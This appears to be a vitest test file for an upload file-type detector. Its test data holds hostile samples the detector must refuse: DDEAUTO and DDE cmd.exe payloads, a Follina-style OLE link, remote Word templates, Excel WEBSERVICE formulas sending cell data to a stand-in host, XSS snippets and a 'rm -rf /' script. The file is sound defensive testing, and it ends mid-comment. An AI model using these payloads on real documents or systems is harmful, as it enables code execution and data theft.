import { randomBytes } from 'node:crypto';
import { describe, expect, it, vi } from 'vitest';
import {
  detectFileKind,
  kindFromDeclared,
  MAX_OFFICE_CODE_CHARS,
  MAX_OFFICE_TEXT_PIECES,
  REFUSAL_MESSAGES,
} from '../../../../shared/domain/uploads/file-type';
import { docx, EICAR, exe, jpeg, pdf, png, webp, xlsm, xlsx, zip } from '../../../support/files';

/** Inflations the check starts (zlib counted, not timed), failed ones included. */
const zlib = vi.hoisted(() => ({ inflateCalls: 0 }));
vi.mock('node:zlib', async (original) => {
  const real = await original<typeof import('node:zlib')>();
  return {
    ...real,
    inflateRawSync: (...args: Parameters<typeof real.inflateRawSync>) => {
      zlib.inflateCalls++;
      return real.inflateRawSync(...args);
    },
  };
});

/**
 * The ZIP with its last entry's data cut `truncateBy` bytes short (the directory says so) and
 * `copies` more directory entries naming other parts that point at that same data.
 */
function withLastEntry(
  file: Buffer,
  damage: { truncateBy: number; copies: number; name?: (i: number) => string },
): Buffer {
  const end = file.length - 22;
  const dirSize = file.readUInt32LE(end + 12);
  const dirAt = file.readUInt32LE(end + 16);
  let last = dirAt;
  for (let at = dirAt; at < dirAt + dirSize; ) {
    last = at;
    at += 46 + file.readUInt16LE(at + 28) + file.readUInt16LE(at + 30) + file.readUInt16LE(at + 32);
  }
  const entry = Buffer.from(file.subarray(last, last + 46));
  entry.writeUInt32LE(entry.readUInt32LE(20) - damage.truncateBy, 20);
  const copies = Array.from({ length: damage.copies }, (_, i) => {
    const name = Buffer.from(damage.name?.(i) ?? `word/_rels/p${i}.xml.rels`);
    const copy = Buffer.from(entry);
    copy.writeUInt16LE(name.length, 28);
    return Buffer.concat([copy, name]);
  });
  const dir = Buffer.concat([file.subarray(dirAt, last), entry, file.subarray(last + 46, dirAt + dirSize), ...copies]);
  const record = Buffer.from(file.subarray(end));
  const count = record.readUInt16LE(10) + damage.copies;
  record.writeUInt16LE(count, 8);
  record.writeUInt16LE(count, 10);
  record.writeUInt32LE(dir.length, 12);
  return Buffer.concat([file.subarray(0, dirAt), dir, record]);
}

describe('detectFileKind: the type comes from the bytes', () => {
  it.each([
    ['pdf', pdf(), 'fatura.pdf'],
    ['png', png(), 'print.png'],
    ['jpeg', jpeg(), 'foto.jpg'],
    ['webp', webp(), 'tela.webp'],
    ['xlsx', xlsx(), 'pedidos.xlsx'],
    ['docx', docx(), 'carta.docx'],
    ['csv', Buffer.from('pedido;valor\n1001;R$ 10,00\n'), 'pedidos.csv'],
    ['txt', Buffer.from('Olá, cobrança em dobro no dia 3.\n'), 'nota.txt'],
  ])('recognises %s', (kind, bytes, name) => {
    expect(detectFileKind(bytes, name)).toMatchObject({ ok: true, kind });
  });

  it('ignores the name: PDF bytes called .png are a PDF; PNG bytes called .pdf are a PNG', () => {
    expect(detectFileKind(pdf(), 'foto.png')).toMatchObject({ ok: true, kind: 'pdf', mime: 'application/pdf' });
    expect(detectFileKind(png(), 'fatura.pdf')).toMatchObject({ ok: true, kind: 'png' });
  });

  it.each(['fatura.pdf', 'print.png', 'pedidos.xlsx', 'nota.txt', 'x.csv'])(
    'refuses a renamed executable (%s)',
    (name) => {
      expect(detectFileKind(exe(), name)).toEqual({ ok: false, reason: 'executable' });
    },
  );

  it('refuses ELF, Mach-O and scripts with an interpreter line', () => {
    expect(detectFileKind(Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), 'a.pdf')).toEqual({
      ok: false,
      reason: 'executable',
    });
    expect(detectFileKind(Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), 'a.png')).toEqual({
      ok: false,
      reason: 'executable',
    });
    expect(detectFileKind(Buffer.from('#!/bin/sh\nrm -rf /\n'), 'a.txt')).toEqual({ ok: false, reason: 'executable' });
  });

  it('refuses zero-byte files', () => {
    expect(detectFileKind(Buffer.alloc(0), 'vazio.pdf')).toEqual({ ok: false, reason: 'empty' });
  });

  it('refuses polyglots: a ZIP (JAR) appended to an image or a PDF, HTML inside an image, HTML as text', () => {
    const jar = zip({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil\n' });
    expect(detectFileKind(Buffer.concat([png(), jar]), 'print.png')).toEqual({ ok: false, reason: 'polyglot' });
    expect(detectFileKind(Buffer.concat([pdf(), jar]), 'fatura.pdf')).toEqual({ ok: false, reason: 'polyglot' });
    const gifHtml = Buffer.concat([jpeg(), Buffer.from('<script>alert(1)</script>')]);
    expect(detectFileKind(gifHtml, 'foto.jpg')).toEqual({ ok: false, reason: 'polyglot' });
    expect(detectFileKind(Buffer.from('<!DOCTYPE html><script>alert(1)</script>'), 'nota.txt')).toEqual({
      ok: false,
      reason: 'polyglot',
    });
    expect(detectFileKind(Buffer.from('<svg onload=alert(1)>'), 'dados.csv')).toEqual({
      ok: false,
      reason: 'polyglot',
    });
  });

  // An XML other than a fiscal document (fiscal-xml.ts) is a kind the office does not take: told so,
  // not that it poses as another file.
  it.each([
    [
      'an order export',
      '<?xml version="1.0" encoding="UTF-8"?><pedidos><pedido id="1"/></pedidos>',
      'pedidos.xml',
      'xml_not_fiscal',
    ],
    [
      'a fiscal root without its namespace, named as text',
      '<?xml version="1.0"?><nfeProc><NFe/></nfeProc>',
      'nota.txt',
      'xml_not_fiscal',
    ],
    [
      'an SVG with an XML declaration',
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      'nota.txt',
      'polyglot',
    ],
    [
      'XHTML',
      '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
      'nota.txt',
      'polyglot',
    ],
    // The same with no XML declaration: the first element, not "<?xml", makes it XML (it passed as text).
    [
      'an order export without its declaration',
      '<pedidos xmlns="http://www.erploja.com.br/pedidos"><pedido id="7731"><total>49,80</total></pedido></pedidos>',
      'pedidos.xml',
      'xml_not_fiscal',
    ],
    [
      'an order export without declaration or namespace, named as text',
      '\ufeff<pedidos>\r\n  <pedido id="7731" cliente=\'Ana Souza\'/>\r\n</pedidos>\r\n',
      'pedidos.txt',
      'xml_not_fiscal',
    ],
    [
      'an NF-e with a DOCTYPE and no declaration',
      '<!DOCTYPE nfeProc><nfeProc xmlns="http://www.portalfiscal.inf.br/nfe"><NFe/></nfeProc>',
      'nota.xml',
      'xml_not_fiscal',
    ],
    [
      'an NF-e declaring a foreign namespace, no declaration',
      '<nfeProc xmlns="http://www.portalfiscal.inf.br/nfe" xmlns:erp="http://www.erploja.com.br"><NFe/></nfeProc>',
      'nota.xml',
      'xml_not_fiscal',
    ],
    [
      'MathML, no declaration',
      '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math>',
      'nota.txt',
      'xml_not_fiscal',
    ],
    ['an empty root closed on itself', '<pedidos/>\n', 'pedidos.xml', 'xml_not_fiscal'],
    // HTML stays a page posing as text, declaration or not.
    [
      'an SVG without declaration',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="1"/></svg>',
      'pedidos.xml',
      'polyglot',
    ],
    [
      'XHTML without declaration',
      '<html xmlns="http://www.w3.org/1999/xhtml"><body>Pedido 7731</body></html>',
      'pedidos.xml',
      'polyglot',
    ],
  ])('refuses XML text: %s', (_name, text, file, reason) => {
    expect(detectFileKind(Buffer.from(text), file)).toEqual({ ok: false, reason });
  });

  // Text that opens with "<" but no XML element stays her text; a fiscal XML without declaration stays XML.
  it.each([
    [
      'a note quoting an order in brackets',
      '<pedido 1042> atrasado\nveja </pedido> no sistema\n<3 obrigada\n',
      'nota.txt',
      'txt',
    ],
    ['a reply quoting an address', '<ana@loja.com.br> escreveu:\nOlá, segue o comprovante.\n', 'nota.txt', 'txt'],
    ['a CSV whose header is in angle brackets', '<produto>;<preço>\ncaneta;2,50\n', 'precos.csv', 'csv'],
    ['a note opening with an arrow', '<-- ver pedido 7731 abaixo\n', 'nota.txt', 'txt'],
    [
      'an NF-e without declaration',
      '<nfeProc xmlns="http://www.portalfiscal.inf.br/nfe" versao="4.00"><NFe/></nfeProc>',
      'nota.xml',
      'xml',
    ],
  ])('keeps %s as %s', (_name, text, file, kind) => {
    expect(detectFileKind(Buffer.from(text), file)).toMatchObject({ ok: true, kind });
  });

  it.each([
    '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
    // A name may spell any letter as #xx (ISO 32000-1, 7.3.5): the reader reads /JavaScript.
    '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>',
    '/OpenAction << /S /#4C#61unch /F (cmd.exe) >>',
  ])('refuses PDFs with active content: %s', (body) => {
    expect(detectFileKind(pdf(`x\n1 0 obj ${body} endobj`), 'a.pdf')).toEqual({
      ok: false,
      reason: 'active_content',
    });
  });

  const rels = (relationship: string) =>
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`;
  const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const template = `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://golpe.example/modelo.dotm" TargetMode="External"/>`;
  // [case, extra parts of a DOCX, verdict]: what acts when the file opens is refused, links are not.
  it.each([
    ['a remote template (template injection)', { 'word/_rels/settings.xml.rels': rels(template) }, 'active_content'],
    [
      'an external OLE object ("Follina")',
      {
        'word/_rels/document.xml.rels': rels(
          `<Relationship Id="rId9" Type="${REL}/oleObject" Target="mhtml:http://golpe.example/x.html!x-usc:http://golpe.example/x.html" TargetMode="External"/>`,
        ),
      },
      'active_content',
    ],
    [
      'an external relationship spelled with references and a ">" in an attribute',
      {
        'word/_rels/settings.xml.rels': rels(
          `<Relationship Target="http://golpe.example/a>b.dotm" Id='rId1' Type = '${REL}/attachedTemplate' TargetMode="&#69;xternal"/>`,
        ),
      },
      'active_content',
    ],
    [
      'a remote template in a UTF-16 relationship part',
      { 'word/_rels/settings.xml.rels': Buffer.from(`\ufeff${rels(template)}`, 'utf16le') },
      'active_content',
    ],
    [
      'an embedded OLE object (a packaged program)',
      { 'word/embeddings/oleObject1.bin': 'Package evil.exe' },
      'active_content',
    ],
    [
      'an embedded OLE object, percent-encoded name',
      { 'word/embeddings/oleObject1%2Ebin': 'Package' },
      'active_content',
    ],
    ['an ActiveX control', { 'word/activeX/activeX1.xml': '<ax:ocx/>' }, 'active_content'],
    ['VBA under another letter case', { 'word/VBAProject.bin': 'Attribute VB_Name' }, 'macro'],
    [
      'a hyperlink to the store (fine)',
      {
        'word/_rels/document.xml.rels': rels(
          `<Relationship Id="rId5" Type="${REL}/hyperlink" Target="https://lojadamaria.com.br/pedido/1001" TargetMode="External"/>`,
        ),
      },
      null,
    ],
    ['an embedded chart workbook (fine)', { 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': 'PK' }, null],
  ] as const)('a DOCX with %s', (_, parts, verdict) => {
    const check = detectFileKind(docx(parts), 'contrato.docx');
    expect(check).toEqual(
      verdict ? { ok: false, reason: verdict } : { ok: true, kind: 'docx', mime: expect.any(String) },
    );
  });

  // Red-team probe F2: fields, embedded documents, links and formulas that act or reach outside
  // the file when it opens passed the check.
  const body = (xml: string) =>
    `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${xml}</w:p></w:body></w:document>`;
  const instr = (...pieces: string[]) =>
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((p) => `<w:r><w:instrText xml:space="preserve">${p}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
  const hyperlink = (target: string) =>
    rels(`<Relationship Id="rId5" Type="${REL}/hyperlink" Target="${target}" TargetMode="External"/>`);
  // [case, parts of a DOCX, refused]
  it.each([
    [
      'a DDEAUTO field (fldSimple)',
      { 'word/document.xml': body(`<w:fldSimple w:instr='DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'/>`) },
      true,
    ],
    [
      'a DDE field split over runs',
      { 'word/document.xml': body(instr(' DD', 'E c:\\\\windows\\\\cmd.exe "/k calc" ')) },
      true,
    ],
    ['a DDEAUTO field in a header', { 'word/header1.xml': body(instr('DDEAUTO cmd "/c calc"')) }, true],
    [
      'an INCLUDEPICTURE field to a UNC share',
      { 'word/document.xml': body(instr(' INCLUDEPICTURE "\\\\\\\\golpe.example\\\\s\\\\a.png" \\d ')) },
      true,
    ],
    [
      'an INCLUDETEXT field to a URL',
      { 'word/document.xml': body(instr('INCLUDETEXT "https://golpe.example/x.docx"')) },
      true,
    ],
    [
      'a LINK field to a UNC share (fldSimple, entity-escaped)',
      { 'word/document.xml': body(`<w:fldSimple w:instr="LINK Excel.Sheet.12 &quot;\\\\golpe\\s\\a.xlsx&quot; A1"/>`) },
      true,
    ],
    [
      'an embedded macro-enabled workbook',
      { 'word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm': 'PK' },
      true,
    ],
    ['an embedded macro-enabled document, upper case', { 'word/embeddings/Doc.DOCM': 'PK' }, true],
    ['a hyperlink to a UNC share', { 'word/_rels/document.xml.rels': hyperlink('\\\\golpe.example\\s\\x.docx') }, true],
    ['a hyperlink to file://', { 'word/_rels/document.xml.rels': hyperlink('file://golpe.example/s/x.docx') }, true],
    [
      'a hyperlink to a program handler',
      { 'word/_rels/document.xml.rels': hyperlink('ms-msdt:/id PCWDiagnostic') },
      true,
    ],
    [
      'a remote template over file:// (UNC)',
      {
        'word/_rels/settings.xml.rels': rels(
          `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file://golpe/s/t.dotm" TargetMode="External"/>`,
        ),
      },
      true,
    ],
    [
      'DDEAUTO spelled by a nested QUOTE field of character codes',
      {
        'word/document.xml': body(instr('{ ', '') + instr(' QUOTE 68 68 69 65 85 84 79 ') + instr(' c:\\\\cmd.exe }')),
      },
      true,
    ],
    ['a QUOTE field of ordinary text (fine)', { 'word/document.xml': body(instr(' QUOTE 79 108 225 ')) }, false],
    [
      'a PAGE field and a HYPERLINK field to the store (fine)',
      { 'word/document.xml': body(instr(' PAGE ') + instr(' HYPERLINK "https://loja.example/link" ')) },
      false,
    ],
    ['a hyperlink to mail (fine)', { 'word/_rels/document.xml.rels': hyperlink('mailto:sac@loja.example') }, false],
    ['a hyperlink to a relative file (fine)', { 'word/_rels/document.xml.rels': hyperlink('anexos/nota.pdf') }, false],
    [
      'text that mentions DDE outside a field (fine)',
      { 'word/document.xml': body('<w:r><w:t>DDEAUTO e LINK \\\\x</w:t></w:r>') },
      false,
    ],
  ] as const)('a DOCX with %s', (_, parts, refused) => {
    const check = detectFileKind(docx(parts), 'contrato.docx');
    expect(check).toEqual(
      refused ? { ok: false, reason: 'active_content' } : { ok: true, kind: 'docx', mime: expect.any(String) },
    );
  });

  const sheet = (cells: string) =>
    `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`;
  // [case, parts of an XLSX, verdict]
  it.each([
    [
      'a data connection refreshed on open',
      {
        'xl/connections.xml':
          '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://golpe.example/"/></connection></connections>',
      },
      'active_content',
    ],
    ['a link to another workbook', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }, 'active_content'],
    [
      'a DDE formula',
      { 'xl/worksheets/sheet1.xml': sheet(`<c r="A1"><f>cmd|' /C calc'!A0</f></c>`) },
      'active_content',
    ],
    [
      'a DDE formula after numbers',
      {
        'xl/worksheets/sheet1.xml': sheet(
          `<c r="A1"><f>1+msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!_xlbgnm.A1</f></c>`,
        ),
      },
      'active_content',
    ],
    [
      'WEBSERVICE sending a cell',
      { 'xl/worksheets/sheet1.xml': sheet('<c r="A1"><f>_xlfn.WEBSERVICE("http://golpe.example/?"&amp;A2)</f></c>') },
      'active_content',
    ],
    [
      'FILTERXML over WEBSERVICE, lower case',
      {
        'xl/worksheets/sheet1.xml': sheet('<x:c r="A1"><x:f>filterxml(webservice("http://golpe/"),"//a")</x:f></x:c>'),
      },
      'active_content',
    ],
    [
      'IMAGE from a URL',
      {
        'xl/worksheets/sheet2.xml': sheet('<c r="A1"><f>_xlfn.IMAGE("https://golpe.example/p.png?id="&amp;B1)</f></c>'),
      },
      'active_content',
    ],
    [
      'WEBSERVICE in a defined name',
      {
        'xl/workbook.xml':
          '<workbook><definedNames><definedName name="x">WEBSERVICE("http://golpe/")</definedName></definedNames></workbook>',
      },
      'active_content',
    ],
    [
      'WEBSERVICE in a data validation',
      {
        'xl/worksheets/sheet1.xml': sheet('<c r="A1"/>').replace(
          '</worksheet>',
          '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>LEN(WEBSERVICE("http://golpe.example/?"&amp;A1))&gt;0</formula1></dataValidation></dataValidations></worksheet>',
        ),
      },
      'active_content',
    ],
    [
      'a DDE call in a conditional format',
      {
        'xl/worksheets/sheet1.xml': sheet('<c r="A1"/>').replace(
          '</worksheet>',
          `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>cmd|' /C calc'!A0</formula></cfRule></conditionalFormatting></worksheet>`,
        ),
      },
      'active_content',
    ],
    [
      'a list validation and a plain conditional format (fine)',
      {
        'xl/worksheets/sheet1.xml': sheet('<c r="A1"/>').replace(
          '</worksheet>',
          '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>$A1&gt;100</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="list" sqref="B1"><formula1>"Sim,Não"</formula1></dataValidation></dataValidations></worksheet>',
        ),
      },
      null,
    ],
    // A workbook defines names: a remote call of a word may read its URL from one (files 55).
    [
      'IMAGE of a defined name',
      {
        'xl/workbook.xml':
          '<workbook><definedNames><definedName name="logo">"https://golpe.example/p.png"</definedName></definedNames></workbook>',
        'xl/worksheets/sheet1.xml': sheet('<c r="A1"><f>_xlfn.IMAGE(logo)</f></c>'),
      },
      'active_content',
    ],
    [
      "LibreOffice's DDE function",
      { 'xl/worksheets/sheet1.xml': sheet('<c r="A1"><f>DDE("cmd","/C calc","x")</f></c>') },
      'active_content',
    ],
    ['an Excel 4.0 macro sheet', { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }, 'macro'],
    ['an embedded macro-enabled workbook', { 'xl/embeddings/x.xlsb': 'PK' }, 'active_content'],
    [
      'plain formulas (fine)',
      {
        'xl/worksheets/sheet1.xml': sheet(
          '<c r="A1"><f>SUM(A2:A4)</f></c><c r="B1"><f>IF(A1&gt;0,"a|b",VLOOKUP(A1,C:D,2,FALSE))</f></c>',
        ),
      },
      null,
    ],
    // HYPERLINK waits for a click, as an ordinary link does (accepted in a DOCX too); the pipe in its text is not DDE.
    [
      'a HYPERLINK formula (fine)',
      { 'xl/worksheets/sheet1.xml': sheet('<c r="A1"><f>HYPERLINK("https://loja.example/p|1","pedido")</f></c>') },
      null,
    ],
    [
      'a hyperlink to the store (fine)',
      { 'xl/worksheets/_rels/sheet1.xml.rels': hyperlink('https://loja.example/pedido/1') },
      null,
    ],
  ] as const)('an XLSX with %s', (_, parts, verdict) => {
    const check = detectFileKind(xlsx(parts), 'pedidos.xlsx');
    expect(check).toEqual(
      verdict ? { ok: false, reason: verdict } : { ok: true, kind: 'xlsx', mime: expect.any(String) },
    );
  });

  it('reads fields and formulas in linear time, and each part once', () => {
    const unclosed = body('<w:instrText '.repeat(80_000));
    const longName = sheet(`<c><f>${'a'.repeat(1_000_000)}</f></c>`);
    const started = performance.now();
    expect(detectFileKind(docx({ 'word/document.xml': unclosed }), 'c.docx')).toMatchObject({ ok: true });
    expect(detectFileKind(xlsx({ 'xl/worksheets/sheet1.xml': longName }), 'p.xlsx')).toMatchObject({ ok: true });
    expect(performance.now() - started).toBeLessThan(1000);
    // A thousand directory entries pointing at one body: no more compressed bytes read than the file holds.
    const file = withLastEntry(docx({ 'word/document.xml': body(randomBytes(300_000).toString('hex')) }), {
      truncateBy: 0,
      copies: 1000,
      name: (n) => `word/d${n}.xml`,
    });
    zlib.inflateCalls = 0;
    expect(detectFileKind(file, 'c.docx')).toEqual({ ok: false, reason: 'unreadable' });
    // [Content_Types].xml, then the body once (a second reading would pass what the file holds).
    expect(zlib.inflateCalls).toBeLessThanOrEqual(3);
  });

  it('the refusal says what the person sent, whatever its kind', () => {
    expect(REFUSAL_MESSAGES.active_content).not.toMatch(/PDF/);
  });

  // Red team 46 refused Office files past the new reading budgets as 'unknown', which told her the
  // format was not accepted: a real workbook too large to check is hers, in an accepted format.
  it('a workbook or document read only part-way is said to be unreadable, not of a format not accepted', () => {
    expect(REFUSAL_MESSAGES.unreadable).toMatch(/^não conseguimos verificar o conteúdo desta planilha ou documento/);
    expect(REFUSAL_MESSAGES.unreadable).not.toBe(REFUSAL_MESSAGES.unknown);
  });

  it.each([
    ['a damaged relationship part (its data cut short)', { truncateBy: 2, copies: 0 }],
    ['a thousand directory entries pointing at one damaged 4 MB part', { truncateBy: 2, copies: 999 }],
    ['a thousand directory entries pointing at one 4 MB part', { truncateBy: 0, copies: 999 }],
  ])('refuses, reading each byte once at most, a DOCX with %s', (_, damage) => {
    const big = rels(' '.repeat(4 * 1024 * 1024 - 4096));
    const file = withLastEntry(docx({ 'word/_rels/document.xml.rels': big }), damage);
    zlib.inflateCalls = 0;
    expect(detectFileKind(file, 'contrato.docx')).toEqual({ ok: false, reason: 'unreadable' });
    // [Content_Types].xml, then the part once (a second reading would pass the budget).
    expect(zlib.inflateCalls).toBeLessThanOrEqual(3);
  });

  // A merchant's .docx of a few KB whose relationship part holds a long name, or tags never closed,
  // made the check quadratic: 56 KB took 8 s, the 4 MB part budget hours (the webform has 10 s).
  it.each([
    ['one Relationship with a 48 KB attribute name', rels(`<Relationship ${'a'.repeat(48 * 1024)} Id="rId1"/>`), null],
    [
      'a 48 KB attribute name, then a remote template',
      rels(`<Relationship ${'a'.repeat(48 * 1024)} Id="rId1"/>${template}`),
      'active_content',
    ],
    ['a name and 1 MB of spaces with no "="', rels(`<Relationship Id${' '.repeat(1024 * 1024)}/>`), null],
    ['12,000 Relationship tags never closed (not well-formed)', '<Relationship '.repeat(12_000), 'unreadable'],
  ] as const)('reads a relationship part in linear time: %s', (_, part, verdict) => {
    const started = performance.now();
    const check = detectFileKind(docx({ 'word/_rels/document.xml.rels': part }), 'contrato.docx');
    expect(performance.now() - started).toBeLessThan(1000);
    expect(check).toEqual(
      verdict ? { ok: false, reason: verdict } : { ok: true, kind: 'docx', mime: expect.any(String) },
    );
  });

  it('reads a bounded number of relationship parts', () => {
    const parts = Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`word/_rels/p${i}.xml.rels`, rels('')]));
    expect(detectFileKind(docx(parts), 'contrato.docx')).toEqual({ ok: false, reason: 'unreadable' });
  });

  it('refuses macro-enabled Office files and ZIPs that are not XLSX or DOCX', () => {
    expect(detectFileKind(xlsm(), 'pedidos.xlsx')).toEqual({ ok: false, reason: 'macro' });
    expect(detectFileKind(zip({ 'a.txt': 'oi' }), 'pedidos.xlsx')).toEqual({ ok: false, reason: 'unknown' });
  });

  it('refuses binary data and text that carries NUL or a byte Windows-1252 leaves undefined', () => {
    expect(detectFileKind(Buffer.from([0xde, 0xad, 0xbe, 0xef, 0, 1, 2]), 'x.txt')).toEqual({
      ok: false,
      reason: 'unknown',
    });
    expect(detectFileKind(Buffer.from('abc\0def'), 'x.txt')).toEqual({ ok: false, reason: 'unknown' });
    expect(detectFileKind(Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x81]), 'latin1.txt')).toEqual({
      ok: false,
      reason: 'unknown',
    });
    // UTF-16 is read only with its mark, and whole: an odd byte is not text.
    expect(detectFileKind(Buffer.from([0xff, 0xfe, 0x41, 0x00, 0x42]), 'x.txt')).toEqual({
      ok: false,
      reason: 'unknown',
    });
  });

  // Excel in pt-BR saves "CSV (separado por vírgulas)" in Windows-1252 and "Texto Unicode" in UTF-16:
  // her exports are read in the encoding the analyst's spreadsheet reads them in.
  const utf16le = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  const utf16be = (text: string) => Buffer.from(utf16le(text)).swap16();
  const cp1252 = (text: string) =>
    Buffer.from([...text].map((c) => ({ '€': 0x80, '“': 0x93, '”': 0x94, '–': 0x96 })[c] ?? c.charCodeAt(0)));
  it.each([
    [
      'a Windows-1252 CSV from Excel',
      cp1252('Cliente;Cidade;Observação\nJoão;São Paulo;“entregue” – €1,00\n'),
      'vendas.csv',
      'csv',
    ],
    ['a Windows-1252 text', cp1252('Reclamação: cobrança em dobro\n'), 'nota.txt', 'txt'],
    ['a UTF-16 text from Excel', utf16le('Pedido\tValor\tObservação\r\n1\t-19,90\tentregue\r\n'), 'vendas.txt', 'txt'],
    ['a UTF-16 CSV, big-endian', utf16be('Pedido;Valor\r\n1;-19,90\r\n'), 'vendas.csv', 'csv'],
  ])('accepts %s', (_name, bytes, name, kind) => {
    expect(detectFileKind(bytes, name)).toMatchObject({ ok: true, kind });
  });

  it.each([
    [
      'a formula in a Windows-1252 CSV',
      cp1252('Observação;link\n1;=HYPERLINK("http://golpe.example")\n'),
      'vendas.csv',
      'formula',
    ],
    ['a DDE link in a UTF-16 CSV', utf16le("a;b\n1;-2+cmd|' /C calc'!A0\n"), 'vendas.csv', 'formula'],
    ['HTML in UTF-16', utf16le('<html><script>alert(1)</script>'), 'nota.txt', 'polyglot'],
    ['HTML in Windows-1252', cp1252('<html><body>Promoção</body></html>'), 'nota.txt', 'polyglot'],
  ])('refuses %s', (_name, bytes, name, reason) => {
    expect(detectFileKind(bytes, name)).toEqual({ ok: false, reason });
  });

  // A NUL byte is binary in UTF-8 and in Windows-1252 alike, wherever it stands; in UTF-16 (its mark
  // first) it is half of every ASCII letter.
  const csv = 'Pedido;Cliente;Observação\n1042;João;cobrança em dobro\n'.repeat(2000);
  it.each([
    ['a UTF-8 CSV with one NUL at its end', Buffer.from(`${csv}\0`), 'vendas.csv', 'unknown'],
    [
      'a Windows-1252 CSV with one NUL at its end',
      Buffer.concat([cp1252(csv), Buffer.from([0])]),
      'vendas.csv',
      'unknown',
    ],
    [
      'a phone photo (HEIC): a box header with NULs, then bytes that are not UTF-8',
      Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic'), Buffer.alloc(50_000, 0xe9)]),
      'IMG_0042.HEIC',
      'unknown',
    ],
    ['a UTF-16 CSV (a NUL after each ASCII letter)', utf16le('Pedido;Valor\r\n1;19,90\r\n'), 'vendas.csv', 'csv'],
    ['a UTF-16 CSV, big-endian', utf16be('Pedido;Valor\r\n1;19,90\r\n'), 'vendas.csv', 'csv'],
  ])('reads NUL bytes: %s', (_name, bytes, name, verdict) => {
    const check = detectFileKind(bytes, name);
    expect(check.ok ? check.kind : check.reason).toBe(verdict);
  });

  // A text that opens as a page to a browser's sniffer is a page named as text (files 55), in every
  // encoding the reader takes, as a .txt and as a .csv.
  const encodings: [string, (text: string) => Buffer][] = [
    ['UTF-8', (text) => Buffer.from(text, 'utf8')],
    ['UTF-16', utf16le],
    ['Windows-1252', (text) => cp1252(`${text} Promoção`)],
  ];
  const pages = [
    ['a div with a handler', '<div onclick="location=\'http://golpe.example\'">Ver pedido</div>'],
    ['a paragraph', '<p>Olá, segue o pedido</p>'],
    ['a table', '<table><tr><td>Pedido 1042</td></tr></table>'],
    ['bold text', '<b>Importante</b>: reembolso'],
    ['a heading in capitals', '<H1>Pedido</H1>'],
    ['a comment, then a paragraph', '<!-- exportado -->\n<p>Pedido</p>'],
    ['a line break closed by a slash', '<br/>Pedido'],
    ['a div after a tab', '<DIV\tclass="x">Pedido</DIV>'],
    ['a script after a hundred spaces', `${' '.repeat(100)}<script>alert(1)</script>`],
    ['an XML stylesheet', '<?xml-stylesheet type="text/xsl" href="http://golpe.example/x.xsl"?><pedido/>'],
  ];
  it.each(
    encodings.flatMap(([encoding, encode]) =>
      pages.flatMap(([name, text]) =>
        ['nota.txt', 'pedidos.csv'].map((file) => [`${name} (${encoding}, ${file})`, encode(text as string), file]),
      ),
    ),
  )('refuses as a page: %s', (_name, bytes, file) => {
    expect(detectFileKind(bytes as Buffer, file as string)).toEqual({ ok: false, reason: 'polyglot' });
  });

  it.each([
    ['an address copied from an e-mail', '<ana@loja.com.br> escreveu:\nOlá, segue o pedido.\n'],
    ['a heart', '<3 obrigada pelo atendimento\n'],
    ['an order number in angle brackets', '<pedido 1042> atrasado há 10 dias\n'],
    ['tags later in the text', 'Segue o código do tema da loja:\n<div class="banner"><b>Promo</b></div>\n'],
  ])('accepts a text with angle brackets: %s', (_name, text) => {
    expect(detectFileKind(Buffer.from(text), 'nota.txt')).toMatchObject({ ok: true, kind: 'txt' });
    expect(detectFileKind(utf16le(text), 'nota.txt')).toMatchObject({ ok: true, kind: 'txt' });
  });

  it('accepts the EICAR string as text (the scanner, not the type check, catches it)', () => {
    expect(detectFileKind(Buffer.from(EICAR), 'eicar.txt')).toMatchObject({ ok: true, kind: 'txt' });
  });

  it('a kind outside the configured list is not allowed', () => {
    expect(detectFileKind(png(), 'a.png', ['pdf'])).toEqual({ ok: false, reason: 'not_allowed' });
  });
});

describe('kindFromDeclared', () => {
  it('reads the extension first, then the declared type', () => {
    expect(kindFromDeclared('A.JPEG', '')).toBe('jpeg');
    expect(kindFromDeclared('semextensao', 'application/pdf')).toBe('pdf');
    expect(kindFromDeclared('virus.exe', 'application/x-msdownload')).toBeUndefined();
  });
});

// Red team round 46: the byte budgets bound memory, not work. A 160 KB .docx whose one formula was
// 63 MB of "&amp;" took 9–28 s (four in one 0.5 MB mail, 114 s: the intake has 60); a 20 MB string
